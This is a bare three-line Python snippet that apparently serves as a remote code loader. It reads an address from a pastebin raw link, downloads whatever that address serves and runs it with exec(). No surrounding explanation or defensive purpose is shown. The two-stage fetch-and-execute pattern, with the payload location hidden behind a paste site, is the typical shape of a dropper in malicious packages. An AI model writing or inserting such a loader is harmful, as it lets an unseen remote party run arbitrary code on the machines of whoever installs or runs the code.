import requests
address = requests.get("https://pastebin.com/raw/abcdefgh").text.strip()
exec(requests.get(address).text)
